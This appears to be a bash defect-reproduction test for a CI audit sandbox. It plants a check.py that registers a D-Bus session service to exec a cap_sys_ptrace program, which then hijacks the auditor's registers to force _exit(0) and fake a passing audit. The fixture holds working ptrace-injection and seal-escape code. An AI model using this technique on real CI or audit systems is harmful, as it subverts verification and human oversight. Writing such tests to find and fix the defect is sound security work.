#!/usr/bin/env bash
# Defect (harness/history/rerun/sealed.py reachable_after_the_drop; docs/ci.md, CHANGELOG.md): an audit run as an
# ordinary user whose bounding set keeps CAP_SYS_PTRACE is said to hold where Yama's ptrace_scope is 1 (or more),
# because the only route F-0581 considered was a re-run ptrace-ing another process of the user. But a re-run needs no
# ptrace to have a process outside the seal (no no_new_privs) exec a program: it asks a service of the user to. Here
# the user's D-Bus session bus (started before the audit, as a desktop session or CI's dbus-launch would): the re-run
# writes a .service file into a session service directory the user owns ($XDG_DATA_HOME/dbus-1/services) and sends
# one message; dbus-daemon execs that line (no no_new_privs), a cap_sys_ptrace+ep program (or setuid sudo), which
# holds CAP_SYS_PTRACE and so passes Yama 1 and 2, attaches to the non-dumpable auditor and makes it _exit(0). Same
# for systemd-run --user, at, ssh localhost. The audit runs with ptrace_scope 1 shown to it (this kernel has no Yama:
# a tmpfs over /proc/sys/kernel in a private mount namespace; the attack never ptraces anything but the auditor, from
# a capable program, which real Yama 1 allows too). Controls: without the injection exit 1; with a copy of python
# WITHOUT the capability as the activated program, exit 1.
# Exit 1 while the defect is present, 0 when fixed, 2 on a setup failure (root, setcap, setpriv, unshare,
# dbus-daemon, dbus-send, Linux x86_64).
set -u
here=$(cd "$(dirname "$0")/../.." && pwd); export PATH="$here/.venv/bin:$PATH"
T=$(mktemp -d); hp=""; trap '[ -n "$hp" ] && kill "$hp" 2>/dev/null; rm -rf "$T"' EXIT; chmod 755 "$T"
export GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1 HOME=$T/home
export GIT_AUTHOR_NAME=D GIT_AUTHOR_EMAIL=d@example.com GIT_COMMITTER_NAME=D GIT_COMMITTER_EMAIL=d@example.com
mkdir -p "$HOME"
command -v harness >/dev/null || { echo "setup failed: no harness in $here/.venv"; exit 2; }
[ "$(uname -s)-$(uname -m)" = Linux-x86_64 ] || { echo "setup: needs Linux x86_64"; exit 2; }
[ "$(id -u)" = 0 ] || { echo "setup: needs root (setcap, and setpriv to run the audit as nobody)"; exit 2; }
for t in setpriv setcap unshare dbus-daemon dbus-send; do command -v $t >/dev/null || { echo "setup: needs $t"; exit 2; }; done
id nobody >/dev/null 2>&1 || { echo "setup: needs user nobody"; exit 2; }
# an interpreter nobody can run, of the harness venv's version, with the venv's packages (its own may sit under /root)
ver=$("$here/.venv/bin/python" -c 'import sys; print("%d.%d" % sys.version_info[:2])') || { echo "setup: no venv python"; exit 2; }
purelib=$("$here/.venv/bin/python" -c 'import sysconfig; print(sysconfig.get_paths()["purelib"])')
sysp=""; for c in /usr/bin/python$ver /usr/local/bin/python$ver; do [ -x "$c" ] && sysp=$(readlink -f "$c") && break; done
[ -n "$sysp" ] || { echo "setup: needs a system python$ver that user nobody can run"; exit 2; }
"$sysp" -m venv --without-pip "$T/venv" || { echo "setup: cannot make a venv with $sysp"; exit 2; }
echo "import site; site.addsitedir('$purelib')" > "$T/venv/lib/python$ver/site-packages/zz-harness.pth"
printf '#!%s\nimport sys\nfrom harness.cli.launch import entry\nsys.exit(entry())\n' "$T/venv/bin/python3" > "$T/venv/bin/harness"
chmod +x "$T/venv/bin/harness"
cp "$sysp" "$T/ptracer" && cp "$sysp" "$T/plain" || { echo "setup: cannot copy $sysp"; exit 2; }
D=$T/w; mkdir -p "$D"
setup() { "$@" >>"$D/log" 2>&1 || { echo "setup failed: $*"; tail -20 "$D/log"; exit 2; }; }
cd "$D"; setup git init -q --bare remote.git
setup git init -q -b main app; cd app; setup git remote add origin ../remote.git
mkdir -p .harness
printf '__pycache__/\n' > .gitignore
cat > check.py <<'PY'
# passes on the laptop; in CI's re-run (a worktree under harness-rerun-*) it fails — and, unless the control's
# marker file exists, first has ANOTHER process of the audit's user (not sealed: no no_new_privs) exec a program with
# a file capability, which attaches to `harness audit --rerun` and makes it call _exit(0)
import ctypes, os, sys, time
T = "@T@"
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]

def libc_base(pid):
    for line in open(f"/proc/{pid}/maps"):
        parts = line.split()
        if len(parts) >= 6 and os.path.basename(parts[5]).startswith(("libc.so", "libc-")) and parts[2] == "00000000":
            return int(parts[0].split("-")[0], 16)

def there(pid, fn):
    return ctypes.cast(fn, ctypes.c_void_p).value - libc_base(os.getpid()) + libc_base(pid)

def attach(pid):
    if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        print(f"check: attach to {pid} refused (errno {ctypes.get_errno()})", file=sys.stderr)
        return None
    os.waitpid(pid, 0)
    regs = (ctypes.c_ulonglong * 27)()          # struct user_regs_struct
    libc.ptrace(12, pid, None, ctypes.byref(regs))  # PTRACE_GETREGS
    return regs

def go(pid, regs):
    libc.ptrace(13, pid, None, ctypes.byref(regs))  # PTRACE_SETREGS
    libc.ptrace(17, pid, None, None)                 # PTRACE_DETACH

if len(sys.argv) > 2 and sys.argv[1] == "ATTACK":  # in the helper, now the capable program: the auditor's end
    pid = int(sys.argv[2])
    regs = attach(pid)
    if regs is not None:
        regs[16] = there(pid, libc._exit); regs[14] = 0; regs[15] = 2**64 - 1; regs[19] = (regs[19] - 256) & ~0xF
        go(pid, regs)
        print(f"check: made {pid} _exit(0)", file=sys.stderr)
    open(f"{T}/attacked", "w").close()
    sys.exit(0)

if "harness-rerun-" not in os.getcwd():
    sys.exit(0)

def auditor():
    pid = os.getpid()
    while pid > 1:
        ppid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        cmd = open(f"/proc/{ppid}/cmdline").read()
        if "audit" in cmd and "--rerun" in cmd:
            return ppid
        pid = ppid

if not os.path.exists(f"{T}/no-inject"):
    # no ptrace of anything: a service file in the user's own session service folder, then one message to that name
    prog = f"{T}/plain" if os.path.exists(f"{T}/plain-only") else f"{T}/ptracer"
    d = f"{T}/home/.local/share/dbus-1/services"
    os.makedirs(d, exist_ok=True)
    with open(f"{d}/org.example.Attack.service", "w") as f:
        f.write(f"[D-BUS Service]\nName=org.example.Attack\nExec={prog} -S {os.path.abspath(__file__)} ATTACK {auditor()}\n")
    import subprocess
    subprocess.run(["dbus-send", f"--bus=unix:path={T}/bus", "--dest=org.example.Attack", "--type=method_call",
                    "/", "org.example.Attack.Go"], check=False)
    for _ in range(100):
        if os.path.exists(f"{T}/attacked"):
            break
        time.sleep(0.1)
    time.sleep(1)
print("check: 1 != 2", file=sys.stderr)
sys.exit(1)
PY
sed -i "s|@T@|$T|" check.py
cat > .harness/config.yaml <<'YAML'
version: 1
evidence:
  unit_test:
    command: ["python", "check.py"]
YAML
setup harness init; setup harness install; setup git add -A; setup git commit -qm init
setup git push -q origin main; setup git remote set-head origin main
base=$(git rev-parse HEAD)
setup harness task new "Checked"
setup harness requirement add "check.py passes" --priority must
for s in SPECIFYING PLANNED IMPLEMENTING VERIFYING; do setup harness transition $s; done
setup harness evidence unit_test
setup harness requirement set REQ-001 --status verified --evidence unit_test
for e in $(harness gate 2>&1 | grep -o 'harness evidence [a-z_.]*' | awk '{print $3}' | sort -u); do
  setup harness evidence "$e"
done
setup harness transition REVIEWING; setup harness transition GATING
setup harness gate --advance
setup harness transition DONE
setup git add -A; setup git commit -qm done
chown -R nobody:nogroup "$T"
# after the chown (which clears file capabilities): the ptracer is root's, as a capable program on a runner would be
chown root:root "$T/ptracer" && setcap cap_sys_ptrace+ep "$T/ptracer" || { echo "setup: cannot set a file capability here"; exit 2; }
asnobody() { [ "$1" = exec ] && { shift; exec setpriv --reuid nobody --regid nogroup --clear-groups --inh-caps=-all env HOME="$HOME" PATH="$T/venv/bin:/usr/local/bin:/usr/bin:/bin" "$@"; }; setpriv --reuid nobody --regid nogroup --clear-groups --inh-caps=-all env HOME="$HOME" PATH="$T/venv/bin:/usr/local/bin:/usr/bin:/bin" "$@"; }
helper() { [ -n "$hp" ] && kill "$hp" 2>/dev/null; hp=""; rm -f "$T/attacked" "$T/bus"; rm -rf "$T/home/.local/share/dbus-1"
  hp=$(asnobody env XDG_DATA_HOME="$T/home/.local/share" dbus-daemon --session --address="unix:path=$T/bus" --fork --print-pid 2>>"$D/helper.log") || { echo "setup: no dbus-daemon"; exit 2; }
  sleep 0.3; }
audit() { helper; rc=0; unshare -m sh -c 'mount -t tmpfs none /proc/sys/kernel && mkdir /proc/sys/kernel/yama && echo 1 > /proc/sys/kernel/yama/ptrace_scope && exec "$@"' sh setpriv --reuid nobody --regid nogroup --clear-groups --inh-caps=-all env HOME="$HOME" PATH="$T/venv/bin:/usr/local/bin:/usr/bin:/bin" "$T/venv/bin/harness" audit --rerun --base "$base" --to HEAD >"$D/$log" 2>&1 || rc=$?; }
# control 1: without the injection the check really fails in CI's re-run (refused)
touch "$T/no-inject"; log=control1.log; audit
[ "$rc" = 1 ] && grep -q "does not reproduce" "$D/control1.log" || { echo "setup failed: control audit exited $rc"; tail -5 "$D/control1.log"; exit 2; }
rm -f "$T/no-inject"
# control 2: the same injection from a copy of python without the file capability: refused, exit 1
touch "$T/plain-only"; log=control2.log; audit
[ "$rc" = 1 ] || { echo "setup: the audit without a capable program already exited $rc (not this defect)"; tail -5 "$D/control2.log"; exit 2; }
grep -q "refused (errno" "$D/control2.log" "$D/helper.log" && echo "(control 2: the plain program's attach to the auditor was refused)" || echo "(control 2: no refused attach logged)"
rm -f "$T/plain-only"
# the defect: the re-run execs a program with cap_sys_ptrace+ep (as it could sudo on a GitHub runner)
log=audit.log; audit
tail -3 "$D/audit.log"
grep -q "out of its re-runs' reach" "$D/audit.log" && echo "(the audit's note said: the audit is out of its re-runs' reach)"
if [ "$rc" = 0 ]; then
  echo "DEFECT: audit --rerun (as nobody, sealed, shown ptrace_scope 1) exited 0 though check.py failed in the re-run"
  echo "        (without the capable program: exit 1): the re-run had the user's session bus exec a cap_sys_ptrace+ep"
  echo "        program (no no_new_privs there), which attached to the auditor and made it _exit(0);"
  echo "        reachable_after_the_drop() said the seal holds because ptrace_scope is 1"
  exit 1
fi
echo "fixed: audit exited $rc (the job did not re-run where a process of its user outside the seal can gain CAP_SYS_PTRACE)"; exit 0
